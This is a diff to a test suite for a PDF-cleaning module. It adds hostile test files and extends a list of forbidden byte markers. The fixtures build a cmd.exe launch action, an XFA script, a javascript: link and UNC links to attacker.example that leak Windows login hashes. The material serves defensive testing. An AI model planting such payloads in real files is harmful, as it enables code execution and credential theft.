@@ -3,6 +3,7 @@ is removed (or the file refused), and an ordinary PDF still reads the same."""
 
 from __future__ import annotations
 
+import time
 from collections.abc import Callable
 from pathlib import Path
 
@@ -14,7 +15,19 @@ from prize_portal.files.pdfs import REFUSALS, PdfRefusedError, clean_pdf
 from tests.services import pdf_text
 
 # Bytes that no cleaned file may still hold, whatever the hostile file was.
-ACTIVE_MARKERS = (b"/JavaScript", b"/JS", b"/Launch", b"cmd.exe", b"/EmbeddedFiles", b"/EF", b"/XFA", b"/AA", b"MZ\x90")
+ACTIVE_MARKERS = (
+    b"/JavaScript",
+    b"/JS",
+    b"/Launch",
+    b"cmd.exe",
+    b"/EmbeddedFiles",
+    b"/EF",
+    b"/XFA",
+    b"/AA",
+    b"MZ\x90",
+    b"javascript:",
+    b"attacker.example",
+)
 
 
 def _one_page() -> pikepdf.Pdf:
@@ -62,7 +75,43 @@ def _with_xfa() -> pikepdf.Pdf:
     return pdf
 
 
+def _with_stream_action() -> pikepdf.Pdf:
+    """Readers take a stream wherever a dictionary is expected: an action written as one."""
+    pdf = _one_page()
+    action = pdf.make_stream(b"")
+    action.S, action.F = Name.Launch, String("cmd.exe")
+    pdf.Root.OpenAction = action
+    return pdf
+
+
+def _with_stream_form() -> pikepdf.Pdf:
+    pdf = _one_page()
+    form = pdf.make_stream(b"")
+    form.Fields, form.XFA = Array([]), pdf.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
+    pdf.Root.AcroForm = form
+    return pdf
+
+
+def _with_hostile_links() -> pikepdf.Pdf:
+    pdf = _one_page()
+    links = [
+        Dictionary(S=Name.URI, URI=String("javascript:app.alert(1)")),
+        Dictionary(S=Name.URI, URI=String("\\\\attacker.example\\share\\x")),  # leaks the Windows login hash
+        Dictionary(S=Name.Thread, F=String("\\\\attacker.example\\t.pdf")),
+    ]
+    pdf.pages[0].obj.Annots = Array(
+        [
+            pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=a))
+            for a in links
+        ]
+    )
+    return pdf
+
+
 HOSTILE: dict[str, tuple[Callable[[], pikepdf.Pdf], list[str]]] = {
+    "action written as a stream": (_with_stream_action, ["launch"]),
+    "form written as a stream": (_with_stream_form, ["xfa"]),
+    "javascript: and file-share links": (_with_hostile_links, ["external_files", "scripts"]),
     "open-action script": (_with_open_script, ["scripts"]),
     "document-level script": (_with_document_script, ["scripts"]),
     "launch action": (_with_launch, ["launch"]),
@@ -141,7 +190,7 @@ def test_a_password_protected_pdf_is_refused(tmp_path: Path) -> None:
 
 
 def test_every_refusal_has_a_message() -> None:
-    for code in ("not_pdf", "encrypted", "no_pages", "xfa_only"):
+    for code in ("not_pdf", "encrypted", "no_pages", "xfa_only", "too_complex"):
         assert str(REFUSALS[code])
 
 
@@ -165,3 +214,31 @@ def test_an_ordinary_pdf_reads_the_same_after_cleaning(tmp_path: Path) -> None:
     assert text == pdf_text(original)
     assert "Digital companions" in text
     assert "어르신 디지털 동행" in text
+
+
+def test_an_annotation_list_shared_by_thousands_of_pages_is_cleaned_once(tmp_path: Path) -> None:
+    """One indirect /Annots array referred to by 3,000 dictionaries: filtered
+    in place once, not copied for each (which took 22 s and wrote 81 MB)."""
+    pdf = _one_page()
+    attached = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 1, 1])))
+    note = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=Array([0, 0, 1, 1])))
+    shared = pdf.make_indirect(Array([note] * 2999 + [attached]))
+    pdf.Root.Extra = Array([pdf.make_indirect(Dictionary(Annots=shared)) for _ in range(3000)])
+    pdf.save(tmp_path / "upload.pdf")
+    started = time.monotonic()
+
+    cleaned = clean_pdf(tmp_path / "upload.pdf", tmp_path / "clean.pdf")
+
+    assert time.monotonic() - started < 5
+    assert cleaned.removed == ["embedded_files"]
+    assert (tmp_path / "clean.pdf").stat().st_size < 2 * (tmp_path / "upload.pdf").stat().st_size
+
+
+def test_a_file_of_too_many_objects_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("prize_portal.files.pdfs.MAX_OBJECTS", 50)
+    pdf = _one_page()
+    pdf.Root.Extra = Array([pdf.make_indirect(Dictionary(N=number)) for number in range(60)])
+    pdf.save(tmp_path / "upload.pdf")
+    with pytest.raises(PdfRefusedError) as refused:
+        clean_pdf(tmp_path / "upload.pdf", tmp_path / "clean.pdf")
+    assert refused.value.code == "too_complex"
